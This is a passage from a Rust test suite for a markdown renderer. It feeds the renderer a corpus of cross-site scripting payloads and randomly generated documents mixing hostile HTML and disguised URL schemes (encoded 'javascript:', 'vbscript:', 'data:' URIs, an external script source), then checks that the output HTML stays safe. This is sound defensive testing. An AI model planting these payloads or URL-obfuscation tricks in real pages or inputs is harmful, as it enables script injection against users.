        "`<script>alert(1)</script>`",
        "``<script>``",
        "```\n<script>alert(1)</script>\n```",
        "```\"><script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```",
        "``` onload=alert(1) x\ncode\n```",
        "```js\" onmouseover=\"alert(1)\nx\n```",
        "~~~html\n<iframe src=javascript:alert(1)>\n~~~",
        "    <script>alert(1)</script>",
        "`` ` <script>alert(1)</script> ``",
        "```\nunclosed <script>alert(1)</script>",
        // Everywhere markdown puts inline content.
        "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
        "| [x](javascript:alert(1)) |\n|---|\n| y |",
        "- [ ] <img src=x onerror=alert(1)>",
        "> <script>alert(1)</script>",
        "# <svg onload=alert(1)>",
        "**<iframe srcdoc=\"<script>alert(1)</script>\">**",
        "~~<script>alert(1)</script>~~",
        "\\<script>alert(1)\\</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "1. <script>alert(1)</script>\n2. [x](javascript:alert(1))",
    ];

    #[test]
    fn xss_corpus_renders_safely() {
        assert!(XSS_PAYLOADS.len() >= 60);
        for payload in XSS_PAYLOADS {
            assert_safe_html(payload);
            // The same payload embedded in ordinary text and containers.
            assert_safe_html(&format!("Intro {payload} outro"));
            assert_safe_html(&format!("- item\n\n  {payload}\n"));
            assert_safe_html(&format!("> {payload}\n"));
        }
    }

    #[test]
    fn generated_mixtures_of_payloads_render_safely() {
        // Payload fragments glued with markdown syntax in pseudo-random orders, so payloads
        // land inside tables, lists, quotes, link texts and half-open constructs.
        const GLUE: &[&str] = &[
            "",
            " ",
            "\n",
            "\n\n",
            "> ",
            "- ",
            "| ",
            " |\n|---|\n| ",
            "[",
            "](",
            ")",
            "![",
            "`",
            "```\n",
            "\n```\n",
            "<",
            ">",
            "*",
            "&",
            "&#",
            ";",
            "\"",
            "'",
            "\\",
            "[r]: ",
            "\n[r]\n",
        ];
        let mut state: u64 = 0xD1B5_4A32_D192_ED03;
        let mut next = move |bound: usize| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            (state % bound as u64) as usize
        };
        for _ in 0..2_000 {
            let mut markdown = String::new();
            for _ in 0..(2 + next(8)) {
                markdown.push_str(GLUE[next(GLUE.len())]);
                let payload = XSS_PAYLOADS[next(XSS_PAYLOADS.len())];
                // Sometimes only part of a payload, cut at a character boundary.
                let mut cut = next(payload.len() + 1);
                while !payload.is_char_boundary(cut) {
                    cut += 1;
                }
                markdown.push_str(if next(3) == 0 {
                    &payload[..cut]
                } else {
                    payload
                });
            }
            assert_safe_html(&markdown);
        }
    }

    #[test]
    fn raw_html_in_the_corpus_stays_visible_text() {
        assert_eq!(
            render_markdown("<img src=x onerror=alert(1)>"),
            "&lt;img src=x onerror=alert(1)&gt;\n"
        );
        assert_eq!(
            render_markdown("a <svg onload=alert(1)> b"),
            "<p>a &lt;svg onload=alert(1)&gt; b</p>\n"
        );
    }

    #[test]
    fn the_checker_catches_what_it_should() {
        // Guard against a checker that passes everything.
        assert!(scan_tags("<a href=\"x\" onclick=\"y\">")
            .is_ok_and(|tags| tags[0].attributes[1].0 == "onclick"));
        assert!(scan_tags("a < b").is_err());
        assert_eq!(browser_view_of_url(" &#106;ava\tscript:x"), "javascript:x");
        assert_eq!(browser_view_of_url("java&Tab;script:x"), "javascript:x");
    }

    /// Property tests: generated documents, markdown constructs mixed with hostile pieces and
    /// arbitrary Unicode, must render to HTML that keeps every promise `assert_html_is_safe`
    /// checks, whole and as the streaming renderer shows an unfinished tail.
    mod properties {
        use proptest::prelude::*;
        use proptest::sample::select;

        use super::*;

        /// Cases per property: about 0.3 s natively in a debug build.
        const CASES: u32 = 256;

        /// Arbitrary Unicode, line ends and controls included.
        fn unicode() -> impl Strategy<Value = String> {
            "(?s:.{0,6})"
        }

        /// Pieces an attacker would try, whole or as fragments.
        fn hostile() -> impl Strategy<Value = String> {
            select(
                &[
                    "<script>alert(1)</script>",
                    "<SCRIPT SRC=//x.example/x.js>",
                    "<script",
                    "</script>",
                    "<img src=x onerror=alert(1)>",
                    "<svg onload=alert(1)>",
                    "<svg><script>alert(1)</script></svg>",
                    "<a href=\"javascript:alert(1)\">x</a>",
                    "<a href='&#106;avascript:alert(1)'>x</a>",
                    "<iframe src=\"javascript:alert(1)\"></iframe>",
                    "<object data=x>",
                    "<embed src=x>",
                    "<details open ontoggle=alert(1)>",
                    "<style>*{}</style>",
                    "<form action=javascript:alert(1)><button>x</button></form>",
                    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
                    "<!-- <script> -->",
                    "<![CDATA[<script>]]>",
                    " onerror=alert(1)",
                    "\" onmouseover=\"alert(1)",
                    "' onfocus='alert(1)' autofocus='",
                    "\\\" onclick=\\\"alert(1)",
                    "&quot; onclick=&quot;alert(1)",
                    "&#34; onclick=&#x22;alert(1)",
                    "&lt;script&gt;",
                    "&#60;script&#62;",
                    "javascript:alert(1)",
                    "data:text/html,<script>alert(1)</script>",
                ][..],
            )
            .prop_map(str::to_owned)
        }

        /// The start of a URL: schemes allowed and refused, disguised ones, and none. Allowed
        /// ones half the time, so that links are written and their attributes tested.
        fn url_start() -> impl Strategy<Value = &'static str> {
            let allowed = select(
                &[
                    "",
                    "http://",
                    "https://",
                    "HTTPS://",
                    "mailto:",
                    "//",
                    "/",
                    "#",
                    "?",
                    "www.",
                    "http://x.example/",
                    "a/b:c",
                ][..],
            );
            let refused = select(
                &[
                    "javascript:",
                    "JaVaScRiPt:",
                    "java\tscript:",
                    "java\nscript:",
                    "java\\tscript:",
                    "jav&#x09;ascript:",
                    "&#106;avascript:",
                    "&#x6A;avascript:",
                    "&#0000106avascript:",
                    "javascript&colon;",
                    "%6Aavascript:",
                    "\\javascript:",
                    " javascript:",
                    "\u{0}javascript:",
                    "\u{1}javascript:",
                    "\u{a0}javascript:",
                    "\u{feff}javascript:",
                    "\u{ff4a}avascript:",
                    "vbscript:",
                    "VBScript:",
                    "data:text/html,",
                    "data:image/svg+xml;base64,",
                    "file:",
                    "file:///",
                    "ftp://",
                    "httpx:",
                    "mailto2:",
                    "x:",
                    "&",
                    "&amp;",
                ][..],
            );
            prop_oneof![allowed, refused]
        }

        fn url_piece() -> impl Strategy<Value = String> {
            prop_oneof![
                4 => select(
                    &[
                        "",
                        "alert(1)",
                        "x.example/a.png",
                        "a:b",
                        "\"",
                        "'",
                        "\\",
                        "\\\"",
                        "&quot;",
                        "&#39;",
                        "%22",
                        "<",
                        ">",
                        "(",
                        ")",
                        " ",
                        "\"onmouseover=\"alert(1)",
                        "javascript:alert(1)",
                    ][..],
                )
                .prop_map(str::to_owned),
                1 => hostile(),
                1 => unicode(),
            ]
        }

        fn url() -> impl Strategy<Value = String> {
            prop_oneof![
                8 => (url_start(), url_piece(), url_piece())
                    .prop_map(|(start, a, b)| format!("{start}{a}{b}")),
                // Empty and blank: an empty `href` would reload the host page.
                1 => select(&["", " ", "\t", "&#32;", "&#x0;", "&nbsp;", "\u{a0}"][..])
                    .prop_map(str::to_owned),
            ]
        }

        /// A link destination with an optional title, in each of markdown's forms.
        fn destination() -> impl Strategy<Value = String> {
            (url(), 0..6usize, url_piece()).prop_map(|(url, form, title)| match form {
                0 => url,
                1 => format!("<{url}>"),
                2 => format!("{url} \"{title}\""),
                3 => format!("{url} '{title}'"),
                4 => format!("<{url}> ({title})"),
                _ => format!("  {url}  "),
            })
        }

        /// Inline content, links and images nesting up to three deep.
        fn inline() -> impl Strategy<Value = String> {
            let leaf = prop_oneof![
                2 => hostile(),
                2 => unicode(),
                1 => url(),
                1 => select(&["*", "_", "`", "[", "]", "(", ")", "<", ">", "&", "\\", "!", "|", "~~", " ", "\n"][..])
                    .prop_map(str::to_owned),
            ];
            leaf.prop_recursive(3, 24, 3, |inner| {
                prop_oneof![
                    4 => (inner.clone(), destination()).prop_map(|(text, to)| format!("[{text}]({to})")),
                    3 => (inner.clone(), destination()).prop_map(|(text, to)| format!("![{text}]({to})")),
                    2 => url().prop_map(|url| format!("<{url}>")),
                    1 => inner.clone().prop_map(|text| format!("[{text}][r]")),
                    1 => inner.clone().prop_map(|text| format!("[{text}]")),
                    1 => inner.clone().prop_map(|text| format!("`{text}`")),
                    1 => inner.clone().prop_map(|text| format!("*{text}* **{text}** ~~{text}~~")),
                    1 => (url(), inner.clone()).prop_map(|(url, text)| format!("<a href=\"{url}\">{text}</a>")),
                    1 => (url(), inner.clone()).prop_map(|(url, text)| format!("<img src='{url}' onerror=\"{text}\">")),
                    3 => prop::collection::vec(inner, 1..4).prop_map(|parts| parts.concat()),
                ]
            })
        }

        /// One block of a document.
        fn block() -> impl Strategy<Value = String> {
            prop_oneof![
                4 => inline(),
                1 => (select(&["# ", "> ", "- ", "1. ", "- [ ] ", "- [x] ", "    "][..]), inline())
                    .prop_map(|(marker, text)| format!("{marker}{text}")),
                1 => (inline(), inline(), inline())
                    .prop_map(|(a, b, c)| format!("| {a} | b |\n|---|:-:|\n| {b} | {c} |")),
                1 => (select(&["```", "~~~", "``` "][..]), inline(), inline(), any::<bool>())
                    .prop_map(|(fence, info, code, closed)| {
                        let close = if closed { fence.trim_end() } else { "" };
                        format!("{fence}{info}\n{code}\n{close}")
                    }),
                1 => (select(&["<div onclick=\"alert(1)\">", "<script>", "<pre>", "<!--", "<svg onload=alert(1)>", "<details>"][..]), inline())
                    .prop_map(|(open, text)| format!("{open}\n{text}\n\n{text}")),
                1 => (select(&["[r]", "[R]", "[x]", "[img]"][..]), destination())
                    .prop_map(|(label, to)| format!("{label}: {to}")),
            ]
        }

        fn document() -> impl Strategy<Value = String> {
            prop::collection::vec((block(), select(&["\n", "\n\n", "", " "][..])), 1..6).prop_map(
                |blocks| {
                    blocks
                        .into_iter()
                        .map(|(block, separator)| block + separator)
                        .collect()
                },
            )
        }

        proptest! {
            #![proptest_config(ProptestConfig::with_cases(CASES))]

            #[test]
            fn no_document_renders_script_handlers_or_unsafe_urls(markdown in document()) {
                assert_html_is_safe(&markdown, &render_markdown(&markdown));
                // The streaming renderer shows an unfinished message with open fences pending.
                let html = render(&markdown, OpenFences::ShowPending, Some(&AtomicBool::new(false)));
                assert_html_is_safe(&markdown, &html);
            }
        }
    }
}
